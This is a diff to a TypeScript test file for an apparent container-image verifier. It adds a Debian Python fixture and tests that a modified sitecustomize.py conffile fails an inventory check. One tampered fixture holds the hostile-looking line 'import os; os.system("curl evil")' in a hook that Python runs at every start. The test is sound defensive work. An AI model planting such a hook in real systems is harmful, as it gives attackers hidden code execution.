@@ -395,19 +395,28 @@ describe('verify IMAGE: a denied OS package under another os-release', () => {
   });
 });
 
-describe("verify IMAGE: a pyvenv.cfg moving Python's standard library", () => {
-  // Debian's Python, its interpreter and standard library checked against dpkg's md5sums.
-  const PYTHON = elf('python3.11');
-  const OS_PY = 'import abc\n';
-  const python: TarEntry[] = [
+const PYTHON = elf('python3.11');
+const OS_PY = 'import abc\n';
+const SITECUSTOMIZE = '# install the apport exception handler if available\n';
+
+/**
+ * Debian's python3.11-minimal: its interpreter and os.py, checked against the md5sums, and
+ * usr/lib/python3.11/sitecustomize.py, a link to the conffile /etc/python3.11/sitecustomize.py
+ * (`conffile`: what that file holds now; the status records SITECUSTOMIZE's md5).
+ */
+function debianPython(conffile = SITECUSTOMIZE): TarEntry[] {
+  return [
     ...DPKG,
     file(
       'var/lib/dpkg/status',
-      'Package: python3.11-minimal\nStatus: install ok installed\nVersion: 3.11.2-6\nArchitecture: amd64\n'
+      `Package: python3.11-minimal\nStatus: install ok installed\nVersion: 3.11.2-6\nArchitecture: amd64\nConffiles:\n /etc/python3.11/sitecustomize.py ${md5(Buffer.from(SITECUSTOMIZE))}\n`
     ),
     file(
       'var/lib/dpkg/info/python3.11-minimal.list',
-      '/.\n/usr\n/usr/bin\n/usr/bin/python3.11\n/usr/lib\n/usr/lib/python3.11\n/usr/lib/python3.11/os.py\n'
+      ['/.', '/etc', '/etc/python3.11', '/etc/python3.11/sitecustomize.py', '/usr', '/usr/bin']
+        .concat(['/usr/bin/python3.11', '/usr/lib', '/usr/lib/python3.11'])
+        .concat(['/usr/lib/python3.11/os.py', '/usr/lib/python3.11/sitecustomize.py', ''])
+        .join('\n')
     ),
     file(
       'var/lib/dpkg/info/python3.11-minimal.md5sums',
@@ -415,6 +424,9 @@ describe("verify IMAGE: a pyvenv.cfg moving Python's standard library", () => {
     ),
     wh('var/lib/dpkg/info/.wh.netcat-openbsd.list'),
     wh('var/lib/dpkg/info/.wh.netcat-openbsd.md5sums'),
+    dir('etc'),
+    dir('etc/python3.11'),
+    file('etc/python3.11/sitecustomize.py', conffile),
     dir('usr'),
     dir('usr/bin'),
     wh('usr/bin/.wh.nc'),
@@ -422,7 +434,32 @@ describe("verify IMAGE: a pyvenv.cfg moving Python's standard library", () => {
     dir('usr/lib'),
     dir('usr/lib/python3.11'),
     file('usr/lib/python3.11/os.py', OS_PY),
+    link('usr/lib/python3.11/sitecustomize.py', '/etc/python3.11/sitecustomize.py'),
   ];
+}
+
+describe("verify IMAGE: a sitecustomize in Python's standard library", () => {
+  // Python imports sitecustomize from sys.path at every start, the standard library included:
+  // Debian's is a link there to a conffile, which dpkg does not checksum in md5sums.
+  const run = ['/usr/bin/python3.11', '/var/task/app.py'];
+
+  it("the control: Debian's, as installed, passes", async () => {
+    const r = await verify(debianPython(), undefined, run);
+    expect(r.check('inventory:complete')?.outcome).toBe('pass');
+    expect(r.code).toBe(0);
+  });
+
+  it('the conffile changed fails inventory:complete', async () => {
+    const r = await verify(debianPython('import os; os.system("curl evil")\n'), undefined, run);
+    expect(r.code).toBe(1);
+    expect(r.check('inventory:complete')?.detail).toContain(
+      'UNOWNED_EXECUTABLE etc/python3.11/sitecustomize.py'
+    );
+  });
+});
+
+describe("verify IMAGE: a pyvenv.cfg moving Python's standard library", () => {
+  const python = debianPython();
   // A standard library of its own, as data: encodings runs at every start of the interpreter.
   const hidden = (at: string): TarEntry[] => [
     dir(`${at}`),
